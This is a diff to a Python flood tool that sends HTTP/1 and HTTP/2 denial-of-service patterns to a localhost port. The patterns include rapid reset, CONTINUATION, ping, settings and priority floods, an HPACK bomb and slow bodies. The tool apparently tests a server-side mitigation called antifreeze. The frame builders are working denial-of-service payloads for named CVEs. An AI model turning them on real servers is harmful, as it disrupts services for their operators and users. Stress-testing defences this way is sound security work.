@@ -1,4 +1,4 @@
-"""One flood of http://127.0.0.1:PORT/ for SECONDS over CONNECTIONS: KIND, one of FLOODS below.
+"""KIND PORT SECONDS CONNECTIONS: one flood of http://127.0.0.1:PORT/, one of FLOODS below; or --list: their names.
 
 What it sends is made before, and written in large pieces by one thread, so that next to nothing but the system's work is the
 attacker's cost. A connection that is cut is made anew. Prints the bytes that were sent, the connections that were made, and
@@ -12,7 +12,7 @@ import struct
 import sys
 import time
 
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
@@ -63,28 +63,32 @@ def streams(count):
 def rapid_reset():
     """Requests that are reset at once (CVE-2023-44487)."""
     block = head()
-    return begin() + b"".join(get(s, block) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams(20_000)), b""
+    pairs = [get(s, block) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams(20_000)]
+    return begin() + b"".join(pairs[:400]), b"".join(pairs[400:])
 
 
 def made_you_reset():
     """Requests that the server resets (CVE-2025-8671)."""
     block = head()
-    return begin() + b"".join(get(s, block) + frame(WINDOW_UPDATE, 0, s, bytes(4)) for s in streams(20_000)), b""
+    pairs = [get(s, block) + frame(WINDOW_UPDATE, 0, s, bytes(4)) for s in streams(20_000)]
+    return begin() + b"".join(pairs[:120]), b"".join(pairs[120:])
 
 
 def continuation():
     """A head without end, in pieces without anything (CVE-2024-27316)."""
-    return begin() + frame(HEADERS, END_STREAM, 1, head()), frame(CONTINUATION, 0, 1) * 20_000
+    piece = frame(CONTINUATION, 0, 1)
+    return begin() + frame(HEADERS, END_STREAM, 1, head()) + piece * 10, piece * 20_000
 
 
 def long_head():
     """A head without end, of long fields."""
-    return begin() + frame(HEADERS, END_STREAM, 1, head()), frame(CONTINUATION, 0, 1, field(b"x", b"x" * 16_000)) * 10
+    piece = frame(CONTINUATION, 0, 1, field(b"x", b"x" * 16_000))
+    return begin() + frame(HEADERS, END_STREAM, 1, head()) + piece * 6, piece * 10
 
 
 def empty_data():
     """Data without data (CVE-2019-9518)."""
-    return begin() + post(1), frame(DATA, 0, 1) * 20_000
+    return begin() + post(1), frame(DATA, 0, 1) * 1_000
 
 
 def tiny_data():
@@ -92,32 +96,39 @@ def tiny_data():
     return begin() + post(1), frame(DATA, 8, 1, b"\xff" + b"x" + bytes(255)) * 100
 
 
+def idle(one):
+    """More of a frame than is taken."""
+    return begin() + get(1, head()) + one * 1_400, one * 10_000
+
+
 def ping():
     """CVE-2019-9512."""
-    return begin(), frame(PING, 0, 0, b"pingping") * 10_000
+    return idle(frame(PING, 0, 0, b"pingping"))
 
 
 def settings_flood():
     """CVE-2019-9515."""
-    return begin(), settings((4, 65_535)) * 10_000
+    return idle(settings((4, 65_535)))
 
 
 def priority():
     """CVE-2019-9513."""
-    return begin() + get(1, head()), frame(2, 0, 1, b"\0\0\0\x03\x10") * 10_000
-
-
-def unknown():
-    return begin(), frame(0xFA, 0, 0) * 20_000
+    return idle(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10"))
 
 
 def window_updates():
-    return begin() + get(1, head()), frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") * 10_000
+    return idle(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01"))
+
+
+def unknown():
+    return idle(frame(0xFA, 0, 0))
 
 
 def refused():
     """More requests than may be open."""
-    return begin() + b"".join(get(s, head()) for s in streams(50_000)), b""
+    block = head()
+    requests = [get(s, block) for s in streams(20_000)]
+    return begin() + b"".join(requests[:220]), b"".join(requests[220:])
 
 
 def bomb():
@@ -167,29 +178,31 @@ def pipelined():
     return b"", one * 100
 
 
-# What is sent first, and what again and again; whether answers are read; and whether a byte is to follow now and then.
+# Each makes what is sent first, and what again and again; and what its connections do beside. Those that await the end are
+# sent what antifreeze puts up with, and a little more; if they are not cut, the rest follows.
 FLOODS = {
-    "rapid-reset": (rapid_reset, "reads"),
-    "made-you-reset": (made_you_reset, "reads"),
-    "continuation": (continuation, "reads"),
-    "long-head": (long_head, "reads"),
-    "empty-data": (empty_data, "reads"),
-    "tiny-data": (tiny_data, "reads"),
-    "ping": (ping, "reads"),
-    "settings": (settings_flood, "reads"),
-    "priority": (priority, "reads"),
-    "window-update": (window_updates, "reads"),
-    "unknown": (unknown, "reads"),
-    "refused": (refused, "reads"),
-    "plain-http2": (plain_http2, "holds"),
-    "hpack-bomb": (bomb, "holds"),
-    "stalled-windows": (stalled_windows, "holds"),
-    "unread": (unread, "ignores"),
-    "plain-http1": (plain_http1, "holds"),
-    "slow-body": (slow_body, "drips"),
-    "many-heads": (many_heads, "holds"),
-    "pipelined": (pipelined, "reads"),
+    "plain-http2": (plain_http2, "read"),
+    "plain-http1": (plain_http1, "read"),
+    "rapid-reset": (rapid_reset, "await the end"),
+    "made-you-reset": (made_you_reset, "await the end"),
+    "continuation": (continuation, "await the end"),
+    "long-head": (long_head, "await the end"),
+    "empty-data": (empty_data, "read"),
+    "tiny-data": (tiny_data, "read"),
+    "ping": (ping, "await the end"),
+    "settings": (settings_flood, "await the end"),
+    "priority": (priority, "await the end"),
+    "window-update": (window_updates, "await the end"),
+    "unknown": (unknown, "await the end"),
+    "refused": (refused, "await the end"),
+    "hpack-bomb": (bomb, "read"),
+    "stalled-windows": (stalled_windows, "read"),
+    "unread": (unread, "ignore what comes"),
+    "slow-body": (slow_body, "send a byte a second"),
+    "many-heads": (many_heads, "read"),
+    "pipelined": (pipelined, "read"),
 }
+PATIENCE = 0.05
 
 
 class Connection:
@@ -203,10 +216,11 @@ class Connection:
         self.socket.connect_ex(("127.0.0.1", flood.port))
         self.left = memoryview(flood.first or flood.again)
         self.events = 0
+        self.sent = time.monotonic()
         self.watch()
 
     def watch(self):
-        reads = selectors.EVENT_READ if self.flood.manner != "ignores" else 0
+        reads = selectors.EVENT_READ if self.flood.manner != "ignore what comes" else 0
         events = reads | (selectors.EVENT_WRITE if self.left else 0)
         if events != self.events:
             selector = self.flood.selector
@@ -223,7 +237,10 @@ class Connection:
             if events & selectors.EVENT_WRITE:
                 count = self.socket.send(self.left)
                 self.flood.sent += count
-                self.left = self.left[count:] or memoryview(self.flood.again)
+                self.sent = time.monotonic()
+                self.left = self.left[count:]
+                if not self.left and self.flood.manner == "read":
+                    self.left = memoryview(self.flood.again)
                 self.watch()
             if events & selectors.EVENT_READ and not self.socket.recv_into(self.flood.buffer):
                 self.end()
@@ -232,10 +249,12 @@ class Connection:
         except OSError:
             self.end()
 
-    def drip(self):
-        if not self.left:
-            self.left = memoryview(b"x")
-            self.watch()
+    def waits(self, now, long):
+        return not self.left and now - self.sent > long
+
+    def go_on(self, more):
+        self.left = memoryview(more)
+        self.watch()
 
     def end(self):
         if self.events:
@@ -256,19 +275,21 @@ class Flood:
 
     def run(self):
         end = time.monotonic() + self.seconds
-        dripped = time.monotonic()
         while (now := time.monotonic()) < end:
             while len(self.open) < self.connections:
                 self.open.add(Connection(self))
-            for key, events in self.selector.select(0.1):
+            for key, events in self.selector.select(PATIENCE):
                 key.data.step(events)
-            if self.manner == "drips" and now > dripped + 1:
-                dripped = now
-                for connection in self.open:
-                    connection.drip()
+            for connection in list(self.open):
+                if self.manner == "send a byte a second" and connection.waits(now, 1):
+                    connection.go_on(b"x")
+                elif self.manner == "await the end" and connection.waits(now, PATIENCE):
+                    connection.go_on(self.again)
 
 
-if __name__ == "__main__":
+if sys.argv[1:] == ["--list"]:
+    print(*FLOODS)
+else:
     flood = Flood(sys.argv[1], *(int(word) for word in sys.argv[2:5]))
     before = resource.getrusage(resource.RUSAGE_SELF)
     flood.run()
